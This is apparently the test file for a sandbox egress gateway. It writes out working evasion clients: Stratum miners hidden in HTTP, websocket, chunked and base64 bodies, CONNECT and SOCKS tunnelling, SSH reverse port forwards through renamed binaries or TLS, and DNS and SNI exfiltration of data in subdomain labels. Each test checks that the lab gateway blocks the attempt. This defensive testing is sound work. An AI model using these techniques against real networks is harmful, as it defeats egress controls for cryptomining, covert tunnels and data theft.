"""Egress that cannot be talked around (issue 11), each case tried from inside a real
session against the lab's attacker host ``relay.allowed.lab.test`` — a host under an
allowed name, with an sshd that trusts the sandbox's key, a TLS relay to it, CONNECT and
SOCKS proxies and a Stratum pool, all recording every byte they receive.

Every "refused" is measured at the far end (the relay's byte log and tunnel log, the
sshd's accepted logins, the lab DNS server's query log) and every refusal is checked
in the session's events and verdicts.
"""

from __future__ import annotations

import base64
import json
import re
import time
import zlib
from collections.abc import Callable
from typing import Any

import pytest

from bastion import Session
from bastion.events import Event, EventKind
from bastion.lab import Lab
from bastion.lab.topology import host
from tests.conftest import wait_for

from .conftest import LAB_POLICY, lab_trust

RELAY = "relay.allowed.lab.test"
RELAY_IP = host("relay").ip
POOL_IP = host("pool").ip
MINER_WORDS = re.compile(rb"(?i)mining|eth_submit|\"login\"")


def policy(*entries: dict[str, Any], name: str = "egress") -> dict[str, Any]:
    """LAB_POLICY (no packs: the gateway alone) plus ``entries`` in the agent phase."""
    agent = [*LAB_POLICY["network"]["phases"]["agent"]["allow"], *entries]
    return {**LAB_POLICY, "name": name,
            "network": {**LAB_POLICY["network"], "phases": {
                **LAB_POLICY["network"]["phases"], "agent": {"allow": agent}}}}


def wait_events(session: Session, kind: EventKind, predicate: Callable[[Event], bool],
                wait: float = 10.0) -> list[Event]:
    """Events of ``kind`` matching ``predicate``, waited for (returns as soon as one
    is there: the wait is only spent by a failing test or an absent event)."""
    deadline = time.monotonic() + wait
    while True:
        found = [e for e in list(session.events) if e.kind is kind and predicate(e)]
        if found or time.monotonic() >= deadline:
            return found
        time.sleep(0.05)


def rules(session: Session) -> list[str]:
    return [v.rule_id for v in session.verdicts]


# -- 1. protocol classification cannot be talked around -----------------------------

SUBSCRIBE = json.dumps({"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5"]})
VARIANTS = {
    "space": " " + SUBSCRIBE + "\n",
    "crlf": "\r\n" + SUBSCRIBE + "\n",
    "case": SUBSCRIBE.replace("mining.subscribe", "Mining.Subscribe") + "\n",
    "ping-first": '{"id":0,"method":"ping","params":[]}\n' + "WAIT" + SUBSCRIBE + "\n",
    "params-first": '{"params":["w","x"],"id":2,"method":"mining.authorize"}\n',
    "escaped": SUBSCRIBE.replace("mining.subscribe", "mining\\u002esubscribe") + "\n",
    "xmrig": json.dumps({"id": 1, "jsonrpc": "2.0", "method": "login", "params": {
        "login": "WALLET", "pass": "x", "agent": "XMRig/6.21"}}) + "\n",
    "http-post": ("POST /rpc HTTP/1.1\r\nHost: relay.allowed.lab.test\r\nContent-Type: "
                  f"application/json\r\nContent-Length: {len(SUBSCRIBE)}\r\n\r\n") + SUBSCRIBE,
    "late": "SLEEP" + SUBSCRIBE + "\n",  # silent for 0.8 s first
}

MINER = r"""
import socket, sys, time
host, port, payload = sys.argv[1], int(sys.argv[2]), sys.argv[3]
got = b""
try:
    s = socket.create_connection((host, port), timeout=3)
    if payload.startswith("SLEEP"):
        time.sleep(0.8); payload = payload[5:]
    for part in payload.split("WAIT"):
        s.sendall(part.encode()); time.sleep(0.2)
    s.settimeout(2)
    got = s.recv(4096)
except OSError as exc:
    print("refused", type(exc).__name__)
print("reply", got[:60])
"""


@pytest.mark.parametrize("port", [80, 3333])
def test_stratum_variants_never_reach_a_pool_on_an_allowed_host(
        lab: Lab, make_session: Callable[..., Session], port: int) -> None:
    """Every dressing of a Stratum client, to a pool on an allowed name: on :80 (a web
    entry: the miner is not HTTP, or hides in an HTTP body) and on :3333 with an explicit
    raw-TCP entry (allowed bytes, yet the miner's messages never leave)."""
    entry = ({"domain": RELAY} if port == 80
             else {"domain": RELAY, "port": 3333, "protocol": "tcp"})
    session = make_session(policy(entry), lab=True)
    session.write_file("/workspace/miner.py", MINER)
    session.exec(f"getent hosts {RELAY}")
    before = len(lab.relay_bytes())
    for name, payload in VARIANTS.items():
        if name == "http-post" and port != 80:
            continue
        r = session.exec(["python3", "/workspace/miner.py", RELAY, str(port), payload],
                         call_id=f"miner-{name}")
        assert "mining" not in r.stdout.lower() and "job" not in r.stdout, (name, r.stdout)
    received = lab.relay_bytes()[before:]
    assert not MINER_WORDS.search(received), received[-400:]
    refused = [e for e in session.events if e.kind in (EventKind.NET_CONNECT, EventKind.NET_FLOW)
               and e.get("net.decision") == "deny"]
    # every variant was refused, at connect or mid-stream, charged to its own call
    assert {e.call_id for e in refused} >= {f"miner-{n}" for n in VARIANTS
                                            if n != "http-post" or port == 80}
    miner = [e for e in refused if e.get("net.rule") == "gateway.miner_protocol"]
    assert len({e.call_id for e in miner}) >= 6


def test_stratum_inside_a_websocket_is_cut(lab: Lab, make_session: Callable[..., Session]) -> None:
    session = make_session(policy({"domain": RELAY}), lab=True)
    client = r"""
import json, os, socket
s = socket.create_connection(("relay.allowed.lab.test", 80), timeout=3)
s.sendall(b"GET /ws HTTP/1.1\r\nHost: relay.allowed.lab.test\r\nUpgrade: websocket\r\n"
          b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
payload = json.dumps({"id": 1, "method": "mining.subscribe", "params": []}).encode()
mask = os.urandom(4)
s.sendall(bytes([0x81, 0x80 | len(payload)]) + mask
          + bytes(b ^ mask[i % 4] for i, b in enumerate(payload)))
try:
    print("reply", s.recv(100))
except OSError as exc:
    print("cut", exc)
"""
    session.write_file("/workspace/ws.py", client)
    before = len(lab.relay_bytes())
    session.exec(["python3", "/workspace/ws.py"], call_id="ws")
    cut = wait_events(session, EventKind.NET_FLOW,
                      lambda e: e.get("net.rule") == "gateway.miner_protocol", wait=15)
    assert cut and cut[0].call_id == "ws" and cut[0].get("net.cut")
    # the masked frame never left: the relay saw the upgrade request and nothing else
    assert b"\x81" not in lab.relay_bytes()[before:]
    assert "gateway.stream_cut" in rules(session)


PROXY = r"""
import socket, sys, time
kind = sys.argv[1]
try:
    if kind == "connect":
        s = socket.create_connection(("relay.allowed.lab.test", 80), timeout=3)
        time.sleep(0.8)  # silent past the old peek window
        s.sendall(b"CONNECT 203.0.113.33:3333 HTTP/1.1\r\nHost: 203.0.113.33:3333\r\n\r\n")
    elif kind == "keepalive-connect":
        s = socket.create_connection(("relay.allowed.lab.test", 80), timeout=3)
        s.sendall(b"GET / HTTP/1.1\r\nHost: relay.allowed.lab.test\r\n\r\n")
        print(s.recv(200).split(b"\r\n")[0])
        s.sendall(b"CONNECT 203.0.113.33:3333 HTTP/1.1\r\nHost: x\r\n\r\n")
    elif kind == "absolute":
        s = socket.create_connection(("relay.allowed.lab.test", 80), timeout=3)
        s.sendall(b"GET / HTTP/1.1\r\nHost: relay.allowed.lab.test\r\n\r\n")
        print(s.recv(200).split(b"\r\n")[0])
        s.sendall(b"GET http://pool.lab.test:3333/ HTTP/1.1\r\nHost: pool.lab.test:3333\r\n\r\n")
    else:
        s = socket.create_connection(("relay.allowed.lab.test", 1080), timeout=3)
        time.sleep(0.8)
        s.sendall(b"\x05\x01\x00")
        s.recv(2)
        s.sendall(b"\x05\x01\x00\x01" + bytes([203, 0, 113, 33]) + (3333).to_bytes(2, "big"))
    s.settimeout(2)
    s.sendall(b'{"id":1,"method":"mining.subscribe","params":[]}\n')
    print("reply", s.recv(200))
except OSError as exc:
    print("refused", type(exc).__name__)
"""


@pytest.mark.parametrize("kind", ["connect", "keepalive-connect", "absolute", "socks"])
def test_proxies_on_an_allowed_host_do_not_reach_the_pool(
        lab: Lab, make_session: Callable[..., Session], kind: str) -> None:
    session = make_session(policy({"domain": RELAY},
                                  {"domain": RELAY, "port": 1080, "protocol": "tcp"}), lab=True)
    session.write_file("/workspace/proxy.py", PROXY)
    pool_before, tunnels_before = len(lab.pool_bytes()), len(lab.relay_log())
    r = session.exec(["python3", "/workspace/proxy.py", kind], call_id="proxy")
    assert "mining.notify" not in r.stdout and "result" not in r.stdout, r.stdout
    assert len(lab.pool_bytes()) == pool_before
    assert lab.relay_log()[tunnels_before:] == []
    denied = [e for e in session.events if e.kind in (EventKind.NET_CONNECT, EventKind.NET_FLOW)
              and e.get("net.decision") == "deny"]
    assert denied and denied[-1].call_id == "proxy"
    assert denied[-1].get("net.rule") in ("gateway.proxy_protocol", "gateway.default_deny",
                                          "gateway.host_changed", "gateway.miner_protocol")


def test_silent_client_is_held_not_allowed(lab: Lab, make_session: Callable[..., Session]) -> None:
    """Silence is not "unknown, allowed": a client that waits is still classified when
    it speaks; one that never speaks is refused."""
    from bastion.gateway import server

    session = make_session(policy({"domain": RELAY}), lab=True)
    before = len(lab.relay_bytes())
    old = server.HOLD_TIMEOUT
    server.HOLD_TIMEOUT = 1.5
    try:
        r = session.exec("python3 -c \"import socket,time; s=socket.create_connection(("
                         "'relay.allowed.lab.test', 80)); time.sleep(3); "
                         "s.sendall(b'{}\\n'); print(s.recv(10))\"; echo rc=$?", call_id="mute")
    finally:
        server.HOLD_TIMEOUT = old
    assert "rc=0" not in r.stdout
    held = wait_events(session, EventKind.NET_CONNECT,
                       lambda e: e.get("net.rule") == "gateway.silent_client")
    assert held and held[0].call_id == "mute"
    assert len(lab.relay_bytes()) == before


DRIP = r"""
import socket, sys, time
message = sys.argv[1].encode()
try:
    s = socket.create_connection(("relay.allowed.lab.test", 80), timeout=3)
    for i in range(0, len(message), 8):  # eight bytes every 0.1 s: ~1 s for a login
        s.sendall(message[i:i + 8]); time.sleep(0.1)
    s.settimeout(2)
    print("reply", s.recv(400))
except OSError as exc:
    print("refused", type(exc).__name__)
"""


def test_a_slow_drip_miner_to_an_allowed_http_host_is_named_and_judged(
        lab: Lab, make_session: Callable[..., Session]) -> None:
    """A miner that drips its login a few bytes at a time, past the first-bytes window,
    to an allowed web name on :80: the stream is followed while it keeps talking, named
    a miner, refused (nothing reaches the relay) and judged by the mining pack, charged
    to its call. A client that drips an honest request is carried."""
    session = make_session({**policy({"domain": RELAY}), "rules": {"packs": ["mining"]}},
                           lab=True)
    session.write_file("/workspace/drip.py", DRIP)
    # the positive control first (the miner's verdict ends the session): an honest
    # request dripped the same way is carried and answered
    honest = ("GET /hello HTTP/1.1\r\nHost: relay.allowed.lab.test\r\n"
              "Connection: close\r\n\r\n")
    r = session.exec(["python3", "/workspace/drip.py", honest], call_id="slow-honest")
    assert "reply b'HTTP/1.1 200" in r.stdout, (r.stdout, [
        {k: v for k, v in e.fields.items() if k in ("net.app", "net.rule", "net.error",
                                                     "net.host", "net.decision")}
        for e in session.events if e.kind is EventKind.NET_CONNECT])
    before = len(lab.relay_bytes())
    r = session.exec(["python3", "/workspace/drip.py", SUBSCRIBE + "\n"], call_id="drip")
    assert "mining" not in r.stdout, r.stdout
    assert not MINER_WORDS.search(lab.relay_bytes()[before:])
    named = wait_events(session, EventKind.NET_CONNECT,
                        lambda e: e.get("net.rule") == "gateway.miner_protocol")
    assert named and named[0].call_id == "drip" and named[0].get("net.app") == "stratum"
    judged = [v for v in session.verdicts if v.rule_id.startswith("mining.")]
    assert judged and judged[0].call_id == "drip", [v.rule_id for v in session.verdicts]


# -- 2. least privilege: SSH needs an explicit entry; SSH inside TLS is cut ------------

SSH_OPTS = ("-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes "
            "-o ConnectTimeout=3 -i /workspace/id")


def _trusted_key(lab: Lab, session: Session) -> None:
    session.exec("ssh-keygen -q -t ed25519 -N '' -f /workspace/id")
    lab.trust_key((session.workspace / "id.pub").read_text())


@pytest.mark.parametrize("attack", [
    f"ssh {SSH_OPTS} -N -R 9000:localhost:22 root@{RELAY}",
    "ssh -F /workspace/notes.txt relay",
    (f"cp /usr/bin/ssh /workspace/helper && /workspace/helper {SSH_OPTS} "
     f"-o 'remoteforward 9000 localhost:22' root@{RELAY} true"),
], ids=["ssh-R", "config-file", "renamed-lowercase"])
def test_ssh_to_an_allowed_web_name_is_refused(
        lab: Lab, make_session: Callable[..., Session], attack: str) -> None:
    session = make_session(policy({"domain": RELAY}), lab=True)
    _trusted_key(lab, session)
    session.write_file("/workspace/notes.txt",
                       f"Host relay\n  HostName {RELAY}\n  User root\n  IdentityFile /workspace/id\n"
                       "  RemoteForward 9000 localhost:22\n  StrictHostKeyChecking no\n"
                       "  UserKnownHostsFile /dev/null\n  BatchMode yes\n")
    logins, connections = lab.shell_logins(), lab.sshd_connections()
    session.exec(f"timeout 8 {attack}; echo rc=$?", call_id="ssh")
    assert lab.shell_logins() == logins
    assert lab.sshd_connections() == connections
    refused = wait_events(session, EventKind.NET_CONNECT,
                          lambda e: e.get("net.dst_port") == 22, wait=3.0)
    assert all(e.get("net.decision") == "deny" and e.call_id == "ssh" for e in refused)
    # refused by the gateway (least privilege), or before it even connected: the exec of
    # an ssh client with forwarding (a renamed copy is still ssh)
    assert refused or [v for v in session.verdicts if v.rule_id == "tunnels.ssh_forward_exec"
                       and v.call_id == "ssh"]


def _forward_listening(lab: Lab, port: int = 9000) -> bool:
    import socket

    from bastion.gateway.netns import inside

    with inside(lab.netns_path):
        probe = socket.socket()
    try:
        probe.settimeout(1)
        return probe.connect_ex((RELAY_IP, port)) == 0
    finally:
        probe.close()


@pytest.mark.parametrize("attack", [
    "/workspace/helper -N -o 'REMOTEFORWARD 9000 localhost:22' " + SSH_OPTS + f" root@{RELAY}",
    "/workspace/helper -N -F /workspace/notes.txt relay",
], ids=["renamed-uppercase-option", "renamed-config-file"])
def test_renamed_ssh_with_forwarding_is_stopped_at_exec_even_where_ssh_is_allowed(
        lab: Lab, make_session: Callable[..., Session], attack: str) -> None:
    """SSH to the relay is allowed here, so the gateway carries it: the exec of a copy of
    the ssh binary (made in an earlier call) whose options or config forward a port is
    what stops it — identity by binary, options and config read as ssh reads them."""
    session = make_session(policy({"domain": RELAY, "protocol": "ssh"}), lab=True)
    _trusted_key(lab, session)
    session.exec("cp /usr/bin/ssh /workspace/helper", call_id="copy")
    session.write_file("/workspace/notes.txt",
                       f"Host relay\n  HostName {RELAY}\n  User root\n  IdentityFile "
                       "/workspace/id\n  Include /workspace/more.conf\n  StrictHostKeyChecking no\n"
                       "  UserKnownHostsFile /dev/null\n  BatchMode yes\n")
    session.write_file("/workspace/more.conf", "  remoteforward 9000 localhost:22\n")
    session.exec(f"getent hosts {RELAY}; timeout 8 {attack}; echo rc=$?", call_id="tunnel")
    found = [v for v in session.verdicts if v.rule_id == "tunnels.ssh_forward_exec"]
    assert found and found[0].call_id == "tunnel"
    assert "ssh_forward_remote" in found[0].message and "renamed" in found[0].message
    assert not _forward_listening(lab)


def test_allowed_ssh_is_an_event(lab: Lab, make_session: Callable[..., Session]) -> None:
    session = make_session(policy({"domain": RELAY, "protocol": "ssh"}), lab=True)
    session.exec(f"getent hosts {RELAY}; timeout 8 ssh {SSH_OPTS.replace('-i /workspace/id', '')}"
                 f" root@{RELAY} true", call_id="ssh-ok")
    allowed = wait_events(session, EventKind.NET_CONNECT,
                          lambda e: e.get("net.app") == "ssh" and e.get("net.decision") == "allow")
    assert allowed and allowed[0].call_id == "ssh-ok" and allowed[0].pid is not None


TLS_FORWARDER = r"""
import socket, ssl, sys, threading
listener = socket.socket(); listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind(("127.0.0.1", 2222)); listener.listen(1)
open("/workspace/fwd-ready", "w").close()
local, _ = listener.accept()
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
remote = ctx.wrap_socket(socket.create_connection(("relay.allowed.lab.test", 8443)),
                         server_hostname="relay.allowed.lab.test")
def pipe(a, b):
    try:
        while True:
            data = a.recv(65536)
            if not data:
                break
            b.sendall(data)
    except OSError:
        pass
    for s in (a, b):
        try:
            s.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
threading.Thread(target=pipe, args=(local, remote), daemon=True).start()
pipe(remote, local)
"""


def test_ssh_inside_an_allowed_tls_channel_never_reaches_a_shell(
        lab: Lab, make_session: Callable[..., Session]) -> None:
    """An SSH session wrapped in TLS to an allowed name and port (``protocol: tls``): a
    local TLS forwarder (stunnel-like, no ALPN) and a plain ``ssh`` to it, so nothing
    about the ssh command line gives it away. The gateway sees SSH's packet framing in
    the TLS records and cuts the connection before a session channel opens."""
    session = make_session(policy({"domain": RELAY, "port": 8443, "protocol": "tls"}), lab=True)
    _trusted_key(lab, session)
    session.write_file("/workspace/fwd.py", TLS_FORWARDER)
    logins, sessions = lab.shell_logins(), lab.shell_sessions()
    relayed = len([x for x in lab.relay_log() if x.startswith("tls-relay")])
    r = session.exec("python3 /workspace/fwd.py & "
                     "while [ ! -e /workspace/fwd-ready ]; do sleep 0.05; done; "
                     # long enough for the handshake on a loaded machine (the cut
                     # comes with it): a shell that came up would print here
                     f"timeout 60 ssh {SSH_OPTS} -p 2222 root@127.0.0.1 "
                     "'echo SHELL-REACHED; sleep 3'; echo rc=$?", call_id="tls-ssh",
                     timeout=120)
    assert "SHELL-REACHED" not in r.stdout
    # the relay did carry the TLS connection to its sshd: the gateway cut it inside,
    # at the latest as authentication completed, before any session channel (the
    # relay's log line may land a moment after the call ends)
    assert wait_for(lambda: len([x for x in lab.relay_log()
                                 if x.startswith("tls-relay")]) > relayed)
    assert lab.shell_sessions() == sessions
    assert lab.shell_logins() - logins <= 1
    # inspected (LAB_POLICY's tls_inspect): the sshd's banner is read in the plaintext
    # and cut at once; left opaque, SSH's packet framing in the TLS records is
    cut = wait_events(session, EventKind.NET_FLOW, lambda e: e.get("net.rule") in (
        "gateway.ssh_in_tls", "gateway.ssh_in_stream"))
    assert cut and cut[0].call_id == "tls-ssh"
    assert (cut[0].get("net.shape") == "ssh" if cut[0].get("net.rule") == "gateway.ssh_in_tls"
            else cut[0].get("net.tls_inspect") is True)
    verdict = next(v for v in session.verdicts
                   if v.rule_id in ("tunnels.ssh_in_tls", "gateway.stream_cut"))
    assert verdict.call_id == "tls-ssh"


def test_ssh_with_a_proxy_command_is_stopped_as_it_starts(
        lab: Lab, make_session: Callable[..., Session]) -> None:
    session = make_session(policy({"domain": RELAY, "port": 8443, "protocol": "tls"}), lab=True)
    _trusted_key(lab, session)
    relayed = len([x for x in lab.relay_log() if x.startswith("tls-relay")])
    proxy = f"openssl s_client -quiet -connect {RELAY}:8443 -servername {RELAY} 2>/dev/null"
    r = session.exec(f"timeout 10 ssh {SSH_OPTS} -o 'ProxyCommand={proxy}' root@{RELAY} "
                     "'echo SHELL-REACHED'; echo rc=$?", call_id="proxied")
    assert "SHELL-REACHED" not in r.stdout
    assert any(v.rule_id == "tunnels.ssh_forward_exec" and v.call_id == "proxied"
               for v in session.verdicts)
    assert len([x for x in lab.relay_log() if x.startswith("tls-relay")]) == relayed


# -- 3. DNS -----------------------------------------------------------------------------

DNS_CLIENT = r"""
import os, socket, struct, sys
def query(name, qtype=1, qid=None):
    qid = qid if qid is not None else int.from_bytes(os.urandom(2), "big")
    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    q += struct.pack(">HH", qtype, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
    s.sendto(q, ("198.51.100.53", 53))
    try:
        r = s.recv(512)
    except socket.timeout:
        return "timeout"
    return ("id-ok" if r[:2] == q[:2] else "id-bad") + " rcode=%d" % (r[3] & 15)
mode = sys.argv[1]
if mode == "exfil":
    secret = os.urandom(4000).hex()
    out = []
    for i in range(0, len(secret), 24):
        out.append(query(secret[i:i + 24] + ".allowed.lab.test"))
    print(out.count("id-ok rcode=0"), out.count("id-ok rcode=5"), len(out))
elif mode == "deep":  # one nibble per label: every label is one of 16 already seen
    secret = os.urandom(1500).hex()
    for i in range(0, len(secret), 8):
        query(".".join(secret[i:i + 8]) + ".x.allowed.lab.test")
elif mode == "shapes":
    print(query("AlLoWeD.LaB.TeSt", qid=4242), query("allowed.lab.test", qtype=16))
"""


def _label_bytes(lab: Lab, start: int) -> int:
    """Bytes of label text below allowed.lab.test that reached the lab's DNS server."""
    total = 0
    for line in lab.dns_log()[start:]:
        name = line.split(" ", 1)[0].lower()
        if name.endswith(".allowed.lab.test") and not name.startswith("relay."):
            total += len(name) - len(".allowed.lab.test")
    return total


def test_dns_exfiltration_under_an_allowed_wildcard_stops_within_1kb(
        lab: Lab, make_session: Callable[..., Session]) -> None:
    session = make_session(policy({"domain": "*.allowed.lab.test"}), lab=True)
    session.write_file("/workspace/dns.py", DNS_CLIENT)
    start = len(lab.dns_log())
    r = session.exec(["python3", "/workspace/dns.py", "exfil"], call_id="exfil", timeout=120)
    # 8 kB of hex queued as 24-character labels: at most 1 kB of it reached the zone's
    # server, and the verdict (high: kill) stopped the exfiltrating call
    assert _label_bytes(lab, start) <= 1024
    assert 0 < _label_bytes(lab, start)  # it did start: the budget, not a broken lab
    assert "tunnels.dns_exfil" in rules(session)
    verdict = next(v for v in session.verdicts if v.rule_id == "tunnels.dns_exfil")
    assert verdict.call_id == "exfil" and verdict in r.verdicts
    refused = [e for e in session.events if e.kind is EventKind.DNS_QUERY
               and e.get("dns.rule") == "gateway.dns_exfil"]
    assert refused and refused[0].get("dns.decision") == "deny"
    queries = [e for e in session.events if e.kind is EventKind.DNS_QUERY]
    assert queries and all(q.call_id == "exfil" for q in queries)
    assert all(q.pid is not None for q in queries[:20])


@pytest.mark.parametrize("entries", [
    [{"domain": "*.allowed.lab.test"}],
    # the lab policy alone (the red team's): the zone plus a port-bound wildcard; the
    # budget is charged to the wildcard's zone, not to each name's immediate parent
    [],
])
def test_dns_exfiltration_one_nibble_per_label_stops_within_1kb(
        lab: Lab, make_session: Callable[..., Session], entries: list[dict[str, Any]]) -> None:
    session = make_session(policy(*entries), lab=True)
    session.write_file("/workspace/dns.py", DNS_CLIENT)
    start = len(lab.dns_log())
    session.exec(["python3", "/workspace/dns.py", "deep"], call_id="deep", timeout=120)
    assert 0 < _label_bytes(lab, start) <= 1024
    assert any(v.rule_id == "tunnels.dns_exfil" and v.call_id == "deep"
               for v in session.verdicts)


CHUNKED = r"""
import json, socket, sys
body = json.dumps({"id": 1, "method": "mining.subscribe", "params": ["x"]}).encode() + b"\n"
s = socket.create_connection(("relay.allowed.lab.test", 80), timeout=3)
s.sendall(b"POST /rpc HTTP/1.1\r\nHost: relay.allowed.lab.test\r\n"
          b"Transfer-Encoding: chunked\r\n\r\n")
for i in range(0, len(body), 5):
    part = body[i:i + 5]
    s.sendall(b"%x\r\n%s\r\n" % (len(part), part))
s.sendall(b"0\r\n\r\n")
try:
    print(s.recv(200))
except OSError as exc:
    print("cut", exc)
"""


def test_stratum_in_a_chunked_body_is_cut(lab: Lab, make_session: Callable[..., Session]) -> None:
    session = make_session(policy({"domain": RELAY}), lab=True)
    session.write_file("/workspace/chunked.py", CHUNKED)
    before = len(lab.relay_bytes())
    session.exec(["python3", "/workspace/chunked.py"], call_id="chunked")
    cut = wait_events(session, EventKind.NET_FLOW,
                      lambda e: e.get("net.rule") == "gateway.miner_protocol", wait=15)
    assert cut and cut[0].call_id == "chunked"
    # chunks before the one that completed the method name went out (an incomplete
    # message the pool cannot act on); the one that completed it and the rest did not
    received = re.sub(rb"\r\n[0-9a-f]+\r\n", b"", lab.relay_bytes()[before:])
    assert b'"mining.subscribe"' not in received and b"params" not in received


RECHUNK = r"""
import json, random, socket, sys, time
mode, framing = sys.argv[1], sys.argv[2]
random.seed(7)
stream = b"".join(json.dumps(m).encode() + b"\n" for m in (
    {"id": 1, "method": "mining.subscribe", "params": ["xmrig/6.21"]},
    {"id": 2, "method": "mining.authorize", "params": ["44AFFq5kSiGBoZ4NMDwYtN18obc8", "x"]},
    {"id": 3, "method": "mining.submit", "params": ["w", "j1", "00", "5f5e1000", "deadbeef"]}))
s = socket.create_connection(("relay.allowed.lab.test", 80), timeout=3)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
if framing == "http":  # an honest-looking request head, the stream as its body
    s.sendall(b"POST /rpc HTTP/1.1\r\nHost: relay.allowed.lab.test\r\n"
              b"Content-Length: %d\r\n\r\n" % len(stream))
# a forwarder re-chunking what a miner wrote: one byte per write, or shuffled sizes
sizes = [1] * len(stream) if mode == "bytes" else []
while sum(sizes) < len(stream):
    sizes.append(random.choice([1, 2, 3, 5, 8, 13, 21]))
pos = 0
try:
    for size in sizes:
        s.sendall(stream[pos:pos + size]); pos += size
        time.sleep(random.random() * 0.002)
    print(s.recv(200))
except OSError as exc:
    print("cut", exc)
"""


@pytest.mark.parametrize("framing", ["http", "raw"])
@pytest.mark.parametrize("mode", ["bytes", "shuffled"])
def test_a_rechunking_forwarder_is_judged_on_the_reassembled_stream(
        lab: Lab, make_session: Callable[..., Session], mode: str, framing: str) -> None:
    """A forwarder that re-chunks a miner's stream (1-byte writes, shuffled sizes)
    hides no method name from the inspector: it judges the stream, not its reads. Raw
    framing goes through an entry allowing any TCP protocol (only the stream inspection
    stands between the miner and the host); HTTP framing through the plain entry."""
    entry = ({"domain": RELAY, "port": 80, "protocol": "tcp"} if framing == "raw"
             else {"domain": RELAY})
    session = make_session(policy(entry), lab=True)
    session.write_file("/workspace/rechunk.py", RECHUNK)
    before = len(lab.relay_bytes())
    session.exec(["python3", "/workspace/rechunk.py", mode, framing], call_id="fwd",
                 timeout=60)
    # cut mid-stream (a flow report) or refused at connect, whichever saw it first
    stopped = wait_events(session, EventKind.NET_FLOW,
                          lambda e: e.get("net.rule") == "gateway.miner_protocol", wait=0)
    stopped += wait_events(session, EventKind.NET_CONNECT,
                           lambda e: e.get("net.rule") == "gateway.miner_protocol", wait=0)
    if not stopped:
        stopped = wait_for(lambda: [e for e in session.events
                                    if e.get("net.rule") == "gateway.miner_protocol"])
    assert stopped and all(e.call_id == "fwd" for e in stopped)
    received = lab.relay_bytes()[before:]
    assert b"mining.subscribe" not in received and b"mining.submit" not in received
    assert b"44AFFq5k" not in received


POST_STRATUM = r"""
import base64, gzip, json, socket, sys
mode = sys.argv[1]
body = (json.dumps({"id": 1, "method": "mining.subscribe", "params": ["xmrig/6.21"]}).encode()
        + b"\n" + json.dumps({"id": 2, "method": "mining.authorize",
                              "params": ["44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DB", "x"]}).encode())
extra = b""
if mode == "b64":
    body = base64.b64encode(body)
if mode == "gzip_b64":
    body = gzip.compress(base64.b64encode(body))
    extra = b"Content-Encoding: gzip\r\n"
s = socket.create_connection(("relay.allowed.lab.test", 80), timeout=3)
if mode == "b64_chunked":
    body = base64.b64encode(body)
    s.sendall(b"POST /rpc HTTP/1.1\r\nHost: relay.allowed.lab.test\r\n"
              b"Transfer-Encoding: chunked\r\n\r\n")
    for i in range(0, len(body), 5):
        s.sendall(b"%x\r\n%s\r\n" % (len(body[i:i + 5]), body[i:i + 5]))
    s.sendall(b"0\r\n\r\n")
else:
    s.sendall(b"POST /rpc HTTP/1.1\r\nHost: relay.allowed.lab.test\r\n" + extra
              + b"Content-Length: %d\r\n\r\n" % len(body) + body)
try:
    print(s.recv(200))
except OSError as exc:
    print("cut", exc)
"""


@pytest.mark.parametrize("mode", ["b64", "b64_chunked", "gzip_b64"])
def test_stratum_in_a_base64_body_never_reaches_the_relay(
        lab: Lab, make_session: Callable[..., Session], mode: str) -> None:
    session = make_session(policy({"domain": RELAY}), lab=True)
    session.write_file("/workspace/post.py", POST_STRATUM)
    before = len(lab.relay_bytes())
    session.exec(["python3", "/workspace/post.py", mode], call_id="post")
    cut = wait_events(session, EventKind.NET_FLOW,
                      lambda e: e.get("net.rule") == "gateway.miner_protocol", wait=15)
    assert cut and cut[0].call_id == "post"
    # decode what reached the relay the way its server would: no complete miner message
    # (a request sent in one write is refused whole: nothing of it reaches the relay)
    wire = lab.relay_bytes()[before:]
    # chunk-size lines out (the first follows the head's blank line), then the base64
    # alphabet only, whole quads only: the body may be cut anywhere
    body = wire.partition(b"\r\n\r\n")[2]
    if mode == "b64_chunked":
        body = re.sub(rb"\r\n[0-9a-f]+\r\n", b"", b"\r\n" + body)
    if mode == "gzip_b64":
        body = zlib.decompressobj(16 + zlib.MAX_WBITS).decompress(body)
    body = re.sub(rb"[^A-Za-z0-9+/=]", b"", body)
    text = base64.b64decode(body[:len(body) - len(body) % 4])
    assert b'"mining.subscribe"' not in text and b"mining.authorize" not in text


def test_dns_exfil_attempt_through_refused_names_is_reported(
        lab: Lab, make_session: Callable[..., Session]) -> None:
    session = make_session(LAB_POLICY, lab=True)
    start = len(lab.dns_log())
    session.exec("for c in $(head -c 200 /dev/urandom | od -An -tx1 | tr -d ' \\n' | fold -w 60);"
                 " do getent hosts $c.x.denied.lab.test; done; true", call_id="tries")
    assert not any("denied.lab.test" in line for line in lab.dns_log()[start:])
    verdict = [v for v in session.verdicts if v.rule_id == "tunnels.dns_exfil"]
    assert verdict and verdict[0].call_id == "tries" and verdict[0].severity.name == "MEDIUM"


def test_sni_names_go_through_the_same_budget(lab: Lab,
                                               make_session: Callable[..., Session]) -> None:
    session = make_session(LAB_POLICY, lab=True)
    client = r"""
import os, socket, ssl
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
ok = 0
for i in range(120):
    name = os.urandom(12).hex() + ".allowed.lab.test"
    try:
        s = ctx.wrap_socket(socket.create_connection(("203.0.113.80", 443), timeout=2),
                            server_hostname=name)
        s.close(); ok += 1
    except OSError:
        pass
print(ok)
"""
    session.write_file("/workspace/sni.py", client)
    start = len(lab.dns_log())
    session.exec(["python3", "/workspace/sni.py"], call_id="sni", timeout=120)
    assert 0 < _label_bytes(lab, start) <= 1024
    assert any(e.get("net.rule") == "gateway.dns_exfil" for e in session.events
               if e.kind is EventKind.NET_CONNECT)
    assert "tunnels.dns_exfil" in rules(session)


